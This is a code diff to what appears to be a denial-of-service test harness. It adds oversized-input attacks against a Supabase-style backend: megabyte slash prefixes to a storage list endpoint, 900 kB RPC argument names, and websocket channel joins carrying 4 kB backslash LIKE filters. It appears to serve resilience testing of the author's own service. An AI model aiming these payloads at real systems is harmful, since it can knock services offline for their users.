@@ -17,6 +17,7 @@ const DEEP = "[".repeat(5500) + "]".repeat(5500);
 const LONG_QUERY = JSON.stringify({ query: "word ".repeat(400_000) });
 const NINE_DEEP = embed(9);
 const EMPTY_LISTS = `[${Array(300_000).fill("[]").join(",")}]`;
+const SLASHES = "/".repeat(1_000_000);
 const ALIASES = Array.from({ length: 300 }, (_, index) => `a${index}:content`).join(",");
 
 /** Known weaknesses, each as it was found. */
@@ -95,6 +96,19 @@ export const ATTACKS: readonly Attack[] = [
     clients: 2,
     attempt: (target, signal) => get(target, signal, target.previewPath),
   },
+  {
+    name: "folders named by a megabyte of slashes",
+    clients: 4,
+    attempt: (target, signal) =>
+      post(target, signal, "/storage/v1/object/list/article-images", `{"prefix":"${SLASHES}"}`),
+  },
+  { name: "subscriptions to patterns of 4 kB of backslashes", clients: 4, attempt: subscribe },
+  {
+    name: "arguments with names of 900 kB",
+    clients: 4,
+    attempt: (target, signal) =>
+      post(target, signal, "/rest/v1/rpc/search_articles", `{"${"name ".repeat(180_000)}":1}`),
+  },
 ];
 
 function embed(levels: number): string {
@@ -163,13 +177,34 @@ async function sendSlowly(target: Target, signal: AbortSignal): Promise<string> 
   return answer;
 }
 
-/** Joins a hundred channels with 250 kB of presence each, then keeps the socket open. */
-async function fillSocket(target: Target, signal: AbortSignal): Promise<string> {
+/** Joins channels with sixteen filters each, which the database accepts, until the socket is closed. */
+async function subscribe(target: Target, signal: AbortSignal): Promise<string> {
+  const socket = await openSocket(target, signal);
+  const closed = once(socket, "close").then(() => "closed");
+  const filter = `title=like.${"\\".repeat(4080)}x`;
+  const change = { event: "*", schema: "public", table: "articles", filter };
+  const config = { postgres_changes: Array.from({ length: 15 }, () => change) };
+  for (let number = 0; number < 100 && socket.readyState === socket.OPEN; number += 1) {
+    const topic = `realtime:patterns-${number}`;
+    socket.send(JSON.stringify(["1", `${number}`, topic, "phx_join", { config }]));
+    await delay(60, undefined, { signal });
+  }
+  socket.close();
+  return closed;
+}
+
+async function openSocket(target: Target, signal: AbortSignal): Promise<WebSocket> {
   const url = `${target.url.replace("http", "ws")}/realtime/v1/websocket?apikey=${target.apikey}&vsn=2.0.0`;
   const socket = new WebSocket(url, { headers: attackHeaders(target) });
   socket.on("error", () => socket.terminate());
   await once(socket, "open", { signal });
   signal.addEventListener("abort", () => socket.terminate(), { once: true });
+  return socket;
+}
+
+/** Joins a hundred channels with 250 kB of presence each, then keeps the socket open. */
+async function fillSocket(target: Target, signal: AbortSignal): Promise<string> {
+  const socket = await openSocket(target, signal);
   const closed = once(socket, "close").then(() => "closed");
   const meta = { name: "n".repeat(250_000) };
   for (let number = 0; number < 100 && socket.readyState === socket.OPEN; number += 1) {
